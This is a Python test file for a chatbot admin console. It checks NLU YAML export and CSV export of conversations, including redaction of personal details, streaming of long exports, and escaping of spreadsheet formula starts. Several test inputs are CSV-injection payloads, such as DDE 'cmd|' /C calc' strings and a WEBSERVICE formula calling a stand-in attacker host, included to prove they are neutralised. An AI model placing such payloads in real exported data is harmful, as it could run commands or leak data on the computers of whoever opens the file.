import csv
import io
import os
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml
from sqlalchemy import Engine

from web.console.services.corrections import Correction
from web.console.services.exports import conversations_csv, nlu_yaml

ROOT = Path(__file__).resolve().parents[3]
RASA = ROOT / ".venv" / "bin" / "rasa"


def _corrections() -> list[Correction]:
    return [
        Correction(1, "s", "faq/what_is_crs", "wat is crs my son <NAME>", "ada"),
        Correction(2, "s", "faq/what_is_crs", "what's  crs\n[really](x)", "ada"),
        Correction(3, "s", "out_of_scope", "- =cmd|' /C calc'!A0: yes", "ada"),
    ]


def test_nlu_yaml_is_rasa_format() -> None:
    data = yaml.safe_load(nlu_yaml(_corrections()))
    assert data["version"] == "3.1"
    by_intent = {item["intent"]: item["examples"] for item in data["nlu"]}
    assert by_intent["faq/what_is_crs"].splitlines() == [
        "- wat is crs my son <NAME>",
        "- what's crs (really)(x)",
    ]
    assert "out_of_scope" in by_intent
    assert yaml.safe_load(nlu_yaml([])) == {"version": "3.1", "nlu": []}


def validate_with_rasa(exported: str, tmp_path: Path) -> subprocess.CompletedProcess:
    """``rasa data validate`` on the project's data plus the exported file."""
    data = tmp_path / "data"
    shutil.copytree(ROOT / "data", data)
    (data / "nlu").mkdir(exist_ok=True)
    (data / "nlu" / "console_corrections.yml").write_text(exported, encoding="utf-8")
    return subprocess.run(
        [str(RASA), "data", "validate", "--data", str(data), "--domain",
         str(ROOT / "domain"), "--config", str(ROOT / "config.yml")],
        check=False, cwd=tmp_path, capture_output=True, text=True, timeout=600,
        env={**os.environ, "RASA_TELEMETRY_ENABLED": "false"},
    )  # fmt: skip


@pytest.mark.skipif(
    not (RASA.exists() and (ROOT / "domain").is_dir()),
    reason="needs the Rasa venv + domain",
)
def test_rasa_data_validate_accepts_the_export(tmp_path: Path) -> None:
    result = validate_with_rasa(nlu_yaml(_corrections()[:2]), tmp_path)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]


def test_csv_one_row_per_message_redacted_and_formula_safe(engine, samples) -> None:
    from web.console.services.conversations import load_conversations

    with engine.begin() as conn:
        rows = list(csv.DictReader(io.StringIO(conversations_csv(load_conversations(conn, 0.6)))))
    assert len(rows) == 10  # user, bot and feedback messages; actions are not rows
    texts = " ".join(r["text"] for r in rows)
    assert "Liam" not in texts and "555-123-4567" not in texts
    urgent = [r for r in rows if r["conversation_id"] == "urgent-1" and r["sender"] == "user"]
    assert urgent[0]["flags"] == "urgent" and urgent[0]["intent"] == "report_urgent_symptom"
    assert any(r["text"] == "feedback: down" and r["flags"] == "thumbs_down" for r in rows)
    out = conversations_csv([])
    assert out.splitlines()[0].startswith('"conversation_id","time","sender","text","intent","confidence"')


def _csv_of(texts: list[str], sender: str = "s") -> str:
    from tests.web.console.rasa_rows import user
    from web.console.services.conversations import Conversation
    from web.console.services.messages import build_messages

    rows = [dict(user(sender, text, "greet"), id=n) for n, text in enumerate(texts, 1)]
    return conversations_csv([Conversation(sender, build_messages(rows, 0.6))])


def test_csv_cells_cannot_start_a_formula() -> None:
    assert "'=HYPERLINK" in _csv_of(['=HYPERLINK("http://x")'])


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1-2", "'+1-2"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t'=1"),
        ("\r=1", "'\r'=1"),
        ("\uff1dSUM(A1)", "'\uff1dSUM(A1)"),  # full-width =
        ("\uff0b1", "'\uff0b1"),  # full-width +
        ("\uff0d1", "'\uff0d1"),  # full-width -
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),  # full-width @
        ('x;=WEBSERVICE("http://evil.example")', 'x;\'=WEBSERVICE("http://evil.example")'),
        ("a,+cmd|' /C calc'!A0", "a,'+cmd|' /C calc'!A0"),
        ("a|@x", "a|'@x"),
        ("a\t-1", "a\t'-1"),
        ("a;  =1", "a;  '=1"),
        ("a; \uff1d1", "a; '\uff1d1"),
        ("  =1", "'  =1"),
        ("plain text, with-dashes; and = signs", "plain text, with-dashes; and = signs"),
    ],
)
def test_csv_formula_starts_are_neutralised(text: str, cell: str) -> None:
    rows = list(csv.DictReader(io.StringIO(_csv_of([text]))))
    assert rows[0]["text"] == cell


def test_csv_quotes_every_cell_and_neutralises_every_column() -> None:
    out = _csv_of(["hello"], sender="-sender;=1")
    for line in out.splitlines():
        cells = next(csv.reader([line]))
        assert line == ",".join('"' + c.replace('"', '""') + '"' for c in cells), line
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["conversation_id"] == "'-sender;'=1"


# -- the streamed export of long conversations ---------------------------------------


def _long_and_samples(engine: Engine, turns: int = 750) -> list[int]:
    from tests.web.console import rasa_rows

    with engine.begin() as conn:
        rasa_rows.sample_conversations(conn)
        return rasa_rows.long_conversation(conn, "long-1", turns)


def test_csv_export_streams_a_long_conversation_in_bounded_chunks_without_redacting_again(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    from web.console.handlers.exports import stream_csv
    from web.console.services import conversations, messages, summary
    from web.console.services.filters import Filters

    _long_and_samples(engine)  # 1,500 messages, and 10 in four short conversations
    summary.sync(engine)
    monkeypatch.setattr(conversations, "EXPORT_BATCH", 400)  # events per read

    def refuse(text: str) -> str:
        raise AssertionError("a summarised message was redacted again")

    monkeypatch.setattr(messages, "redact", refuse)
    chunks = list(stream_csv(engine, Filters(), 0.6))
    rows = [row for chunk in chunks[1:] for row in csv.DictReader(io.StringIO(chunks[0] + chunk))]
    assert len(rows) == 1510 and len(chunks) > 4
    assert max(len(chunk.splitlines()) for chunk in chunks) <= 2 * 400  # memory stays flat
    long = [r["text"] for r in rows if r["conversation_id"] == "long-1"]
    expected = [
        text
        for n in range(1, 751)
        for text in (f"question {n:04d}: my son <NAME> has a fever, is that CRS?",
                     f"answer {n:04d}: please call your care team.")
    ]  # fmt: skip
    assert long == expected
    urgent = [r for r in rows if r["conversation_id"] == "urgent-1" and r["sender"] == "user"]
    assert urgent[0]["flags"] == "urgent" and "555-123" not in urgent[0]["text"]


def test_csv_export_redacts_what_the_summary_has_not_read(admin_client, engine) -> None:  # noqa: ANN001
    _long_and_samples(engine, 300)
    response = admin_client.get("/export.csv")  # a page view summarises one batch, not all of it
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert len(rows) == 610 and "Liam" not in response.text and "555-123" not in response.text
    assert sum(r["conversation_id"] == "long-1" for r in rows) == 600
